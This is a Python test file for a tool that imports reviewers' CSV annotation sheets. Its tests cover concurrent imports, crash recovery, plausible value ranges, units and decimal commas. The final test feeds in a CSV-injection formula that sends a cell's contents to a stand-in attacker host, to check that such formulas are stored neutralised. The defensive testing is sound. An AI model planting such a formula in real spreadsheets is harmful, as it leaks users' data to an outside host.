    assert [(f.version, f.value) for f in review.load_facts(home.annotations_dir)] == [(2, 21.5)]


def test_concurrent_imports_are_serialised(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    """Two imports at once (two terminals, or the browser UI during an import) both land, one after the other."""
    import threading

    sheets = [write_sheet(tmp_path / "a.csv", [row_for(c, decision="accept") for c in (ERR1, FLOPS, EPOCHS)]),
              write_sheet(tmp_path / "b.csv", [row_for(c, decision="reject") for c in (ERR2, HW, C10_ERR)])]
    errors: list[BaseException] = []

    def run(sheet: Path) -> None:
        conn = connect(home.db_path)
        try:
            review.import_files(conn, home, [sheet])
        except BaseException as e:  # surfaced below
            errors.append(e)
        finally:
            conn.close()

    threads = [threading.Thread(target=run, args=(s,)) for s in sheets]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == []
    ledger = ledger_rows(home.annotations_dir)
    assert sorted(r["decision"] for r in ledger) == ["accept"] * 3 + ["reject"] * 3
    assert review.status(db, home).decided == 6


def test_pdf_link_points_at_a_pdf_extracted_from_outside_the_home(home: Home, tmp_path: Path) -> None:
    conn = connect(":memory:")
    outside = tmp_path / "papers" / "1512.03385v1.pdf"
    outside.parent.mkdir()
    outside.write_bytes(b"%PDF")
    c = Candidate("1512.03385", 1, "params", 25.6e6, page=4)
    replace_candidates(conn, "1512.03385", 1, [c], extraction={"status": "ok", "rule_version": "t",
                                                                "source_path": str(outside)})
    assert review.pdf_link(conn, home, c) == outside.resolve().as_uri() + "#page=4"


# ---------------------------------------------------------------- one annotations folder shared by several homes


def _home_sharing(tmp_path: Path, name: str, annotations: Path) -> Home:
    """A home of its own (own store, same candidates) whose annotations folder is ``annotations``."""
    home = resolve_home(tmp_path / name, annotations)
    conn = connect(home.db_path)
    extract(conn, RESNET, 1, resnet_candidates(), "imagenet")
    extract(conn, DENSENET, 1, densenet_candidates(), "cifar10")
    conn.close()
    return home


_IMPORT_AFTER_GO = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from flopmine import review
    from flopmine.config import resolve_home
    from flopmine.store import connect
    root, annotations, sheet, go = sys.argv[1:5]
    home = resolve_home(root, annotations)
    conn = connect(home.db_path)
    review.sync(conn, home)
    while not Path(go).exists():
        time.sleep(0.001)
    report = review.import_files(conn, home, [sheet]).report
    print(len(report.applied))
""")


def test_two_homes_importing_into_one_annotations_folder_lose_nothing(tmp_path: Path) -> None:
    """Real processes, one per home, released at the same instant, several times over."""
    shared = tmp_path / "shared-annotations"
    homes = [_home_sharing(tmp_path, "home-a", shared), _home_sharing(tmp_path, "home-b", shared)]
    sheets = [write_sheet(tmp_path / "a.csv", [row_for(c, decision="accept") for c in (ERR1, FLOPS, EPOCHS)]),
              write_sheet(tmp_path / "b.csv", [row_for(c, decision="reject") for c in (ERR2, HW, C10_ERR)])]
    for attempt in range(6):
        if shared.exists():
            for p in sorted(shared.rglob("*"), reverse=True):
                p.rmdir() if p.is_dir() else p.unlink()
        go = tmp_path / f"go-{attempt}"
        procs = [subprocess.Popen([sys.executable, "-c", _IMPORT_AFTER_GO, str(h.root), str(shared), str(s), str(go)],
                                  cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for h, s in zip(homes, sheets, strict=True)]
        time.sleep(1.5)  # both have imported flopmine and wait for the go
        go.touch()
        outs = [p.communicate(timeout=120) for p in procs]
        assert [p.returncode for p in procs] == [0, 0], outs
        assert [o.strip() for o, _ in outs] == ["3", "3"]
        ledger = ledger_rows(shared)
        assert sorted(r["decision"] for r in ledger) == ["accept"] * 3 + ["reject"] * 3, f"attempt {attempt}"


def test_recovery_from_another_home_waits_for_a_running_import(tmp_path: Path) -> None:
    """`review status` in home B while home A's import has staged its files must not roll them back."""
    import threading

    shared = tmp_path / "shared-annotations"
    home_a, home_b = _home_sharing(tmp_path, "home-a", shared), _home_sharing(tmp_path, "home-b", shared)
    sheet = three_file_import(tmp_path)
    staged, go = tmp_path / "staged", tmp_path / "go"
    script = textwrap.dedent(f"""
        import time
        from pathlib import Path
        from flopmine import review
        from flopmine.review import annotations as ann
        from flopmine.config import resolve_home
        from flopmine.store import connect
        real_fsync_dir = ann._fsync_dir
        def pause_once_staged(directory):
            if not Path({str(staged)!r}).exists():
                Path({str(staged)!r}).touch()
                while not Path({str(go)!r}).exists():
                    time.sleep(0.01)
            real_fsync_dir(directory)
        ann._fsync_dir = pause_once_staged
        home = resolve_home({str(home_a.root)!r}, {str(shared)!r})
        print(len(review.import_files(connect(home.db_path), home, [{str(sheet)!r}]).report.applied))
    """)
    proc = subprocess.Popen([sys.executable, "-c", script], cwd=REPO, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not staged.exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr and proc.stderr.read()
            time.sleep(0.02)
        temporary = sorted(shared.rglob(f"*{ann.TMP_SUFFIX}"))
        assert len(temporary) == 5  # three fact files and the two months' ledger files, staged
        seen: list[int] = []

        def status_of_home_b() -> None:
            conn_b = connect(home_b.db_path)
            try:
                seen.append(review.status(conn_b, home_b).decided)
            finally:
                conn_b.close()

        status_b = threading.Thread(target=status_of_home_b)
        status_b.start()
        time.sleep(1.0)
        assert all(p.exists() for p in temporary), "home B rolled back a running import"
        assert seen == []  # home B waits for the lock
        go.touch()
        out, err = proc.communicate(timeout=60)
        status_b.join(timeout=60)
    finally:
        go.touch()
        proc.kill()
    assert (proc.returncode, out.strip()) == (0, "3"), err
    assert seen == [3]
    assert len(ledger_rows(shared)) == 3
    assert not list(shared.rglob(f"*{ann.TMP_SUFFIX}"))
    assert not (home_a.root / ".review.lock").exists() and not (shared / ".review.lock").exists()


def test_a_kill_while_writing_the_journal_leaves_no_temporary_file(db: sqlite3.Connection, home: Home,
                                                                   tmp_path: Path) -> None:
    """A real process dies just before the journal's rename: the next command removes every file it left."""
    review.import_files(db, home, [write_sheet(tmp_path / "first.csv", [row_for(FLOPS, decision="accept")])])
    before = snapshot(home.annotations_dir)
    sheet = three_file_import(tmp_path)
    script = textwrap.dedent(f"""
        import os
        real_replace = os.replace
        def die_before_the_journal(src, dst, *args, **kwargs):
            if str(dst).endswith(".review-journal.json"):
                os._exit(9)
            return real_replace(src, dst, *args, **kwargs)
        os.replace = die_before_the_journal
        from flopmine import review
        from flopmine.config import resolve_home
        from flopmine.store import connect
        home = resolve_home({str(home.root)!r})
        review.import_files(connect(home.db_path), home, [{str(sheet)!r}])
    """)
    proc = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 9, proc.stderr
    left = set(snapshot(home.annotations_dir)) - set(before)
    assert any(".review-journal.json." in name for name in left)  # the journal's temporary file
    assert review.status(db, home).decided == 1  # rolled back: the import never committed
    assert snapshot(home.annotations_dir) == before
    # a journal temporary file in the old naming (``write_text_atomic``'s) goes too
    (home.annotations_dir / f".{ann.JOURNAL_FILE}.k2j3h4.part").write_text("{")
    assert review.recover(home.annotations_dir) is not None
    assert snapshot(home.annotations_dir) == before


# ---------------------------------------------------------------- plausible values, units, decimal commas, formulas


@pytest.mark.parametrize("corrected", ["1e300", "5e16"])
def test_an_implausible_correction_needs_force_and_is_flagged(db: sqlite3.Connection, home: Home, tmp_path: Path,
                                                              corrected: str) -> None:
    sheet = write_sheet(tmp_path / "big.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected)])
    assert problems_of(db, home, sheet) == [
        f"{sheet}:2: corrected_value: implausible: {float(corrected)!r} is outside the plausible range of flops "
        "(1e4–1e15 FLOPs); check it, or write 'force' in the force column to keep it"]
    forced = write_sheet(tmp_path / "forced.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected,
                                                           force="Force")])
    report = review.import_files(db, home, [forced]).report
    assert report is not None and len(report.applied) == 1
    (fact,) = review.load_facts(home.annotations_dir)
    assert (fact.value, fact.flags) == (float(corrected), "forced")
    assert read_csv(fact_file(home.annotations_dir, "imagenet", RESNET))[0]["flags"] == "forced"
    assert ledger_rows(home.annotations_dir)[0]["force"] == "force"
    # the flag survives a rebuilt cache and a re-import changes nothing
    assert review.import_files(db, home, [forced]).report.applied == ()  # type: ignore[union-attr]
    db.execute("DELETE FROM review_meta")
    assert review.sync(db, home, force=True)[0].forced
    # the dataset build keeps the value, flagged as forced by the reviewer (not left out of the fits)
    from flopmine.analysis.build import build_dataset, read_annotations

    score = write_sheet(tmp_path / "score.csv", [row_for(ERR1, decision="accept")])
    assert review.import_files(db, home, [score]).report is not None
    facts, warnings = read_annotations(home.annotations_dir)
    frame = build_dataset(facts).frame
    assert not warnings and len(frame) == 1 and "forced:flops" in frame.iloc[0]["flags"]


def test_implausible_values_of_each_kind_of_row(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    implausible_candidate = Candidate(RESNET, 1, "hardware_count", 512000.0, unit="devices", page=4)
    extract(db, RESNET, 1, [*resnet_candidates(), implausible_candidate], "imagenet")
    sheet = write_sheet(tmp_path / "rows.csv", [
        row_for(implausible_candidate, decision="accept"),
        {"decision": "add", "arxiv_id": RESNET, "field": "training_time_hours", "value": "20000", "page": "4"},
        {"decision": "add", "arxiv_id": RESNET, "field": "params", "value": "60e6", "page": "4", "force": "yes"},
    ])
    assert problems_of(db, home, sheet) == [
        f"{sheet}:2: value: implausible: 512000 is outside the plausible range of hardware_count (1–1e5 devices); "
        "check it, or write 'force' in the force column to keep it",
        f"{sheet}:3: value: implausible: 20000 is outside the plausible range of training_time_hours "
        "(0.01–17520 hours); check it, or write 'force' in the force column to keep it",
        f"{sheet}:4: force: write 'force' to keep a value outside its plausible range, or leave it empty "
        "(the cell has 'yes')",
    ]


def test_an_added_fact_needs_a_unit_of_its_field(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    add = {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "ResNet-50", "page": "5"}
    sheet = write_sheet(tmp_path / "units.csv", [
        {**add, "field": "flops", "value": "4.1e9", "unit": "%"},
        {**add, "field": "flops", "value": "4.1", "unit": "GFLOPs"},
        {**add, "field": "hardware", "value": "V100", "unit": "GPUs"},
    ])
    assert problems_of(db, home, sheet) == [
        f"{sheet}:2: unit: not a unit of flops: '%'; write the value in FLOPs and the unit as FLOPs, FLOP, "
        "or leave it empty",
        f"{sheet}:3: unit: not a unit of flops: 'GFLOPs'; write the value in FLOPs and the unit as FLOPs, FLOP, "
        "or leave it empty",
        f"{sheet}:3: value: implausible: 4.1 is outside the plausible range of flops (1e4–1e15 FLOPs); check it, "
        "or write 'force' in the force column to keep it",
        f"{sheet}:4: unit: not a unit of hardware: 'GPUs'; hardware has no unit; leave it empty",
    ]
    ok = write_sheet(tmp_path / "ok.csv", [{**add, "field": "flops", "value": "4.1e9", "unit": "flop"},
                                           {**add, "field": "hardware_count", "value": "8", "unit": "gpus"}])
    review.import_files(db, home, [ok])
    assert sorted((f.field, f.unit) for f in review.load_facts(home.annotations_dir)) == [
        ("flops", "FLOPs"), ("hardware_count", "devices")]


def test_the_plausible_ranges_are_documented_in_one_table() -> None:
    from flopmine.review.decision import plausible_ranges_table

    docs = (REPO / "docs" / "review.md").read_text(encoding="utf-8")
    assert plausible_ranges_table() in docs
    assert "| `flops` | 1e4–1e15 | FLOPs (FLOP) |" in plausible_ranges_table()
    assert "| `training_time_hours` | 0.01–17520 | hours (h, hrs) |" in plausible_ranges_table()


def test_a_file_saved_with_decimal_commas_says_so_once(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    """A German-locale spreadsheet: `;` separators and `42,7`-style numbers in every numeric cell."""
    review.export(db, home, tmp_path / "out")
    rows = read_csv(tmp_path / "out" / "imagenet.csv")
    for r in rows:
        if r["field"] == "top1_err":
            r["value"] = r["value"].replace(".", ",")
        r["decision"] = "accept"
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), delimiter=";", lineterminator="\r\n")
    w.writeheader()
    w.writerows(rows)
    sheet = tmp_path / "de.csv"
    sheet.write_text(buf.getvalue(), encoding="utf-8-sig")
    lines = [i for i, r in enumerate(rows, 2) if r["field"] == "top1_err"]
    assert problems_of(db, home, sheet) == [
        f"{sheet}:{lines[0]}: file: the file uses decimal commas (value '21,43' for 21.43, and 1 more row(s)); "
        "save it with '.' as the decimal separator (LibreOffice: Tools > Options > Language Settings > Languages, "
        "Locale setting English (USA); Excel: File > Options > Advanced, untick 'Use system separators', "
        "decimal separator '.'), then import again"]


def test_annotation_files_store_formulas_neutralised(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    """A note typed as a formula never runs when someone opens annotations/ in a spreadsheet; readers get it back."""
    from flopmine.analysis.build import read_annotations

    formula = '=HYPERLINK("http://evil.example/?"&A1,"see table")'
    sheet = write_sheet(tmp_path / "f.csv", [
        row_for(FLOPS, decision="accept", note=formula),
        {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "-SE", "field": "top1_err",
         "value": "20.1", "page": "7", "note": "@risk"},
    ])
    review.import_files(db, home, [sheet])
    for name in (fact_file(home.annotations_dir, "imagenet", RESNET), ledger_file(home.annotations_dir, RESNET)):
        raw = name.read_text(encoding="utf-8")
        cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
        assert "'" + formula in cells and "'-SE" in cells and "'@risk" in cells, name
        assert not any(c.startswith(("=", "@", "+")) or (c.startswith("-") and c != "-") for c in cells
                       if not c.replace(".", "").replace("-", "").replace("e", "").isdigit()), name
    by_model = {f.model: f for f in review.load_facts(home.annotations_dir)}
    assert by_model["ResNet-152"].note == formula and by_model["-SE"].note == "@risk"
    facts, _ = read_annotations(home.annotations_dir)  # what the analysis build reads
    assert {f.model: f.note for f in facts} == {"ResNet-152": formula, "-SE": "@risk"}
    assert review.import_files(db, home, [sheet]).report.applied == ()  # type: ignore[union-attr]
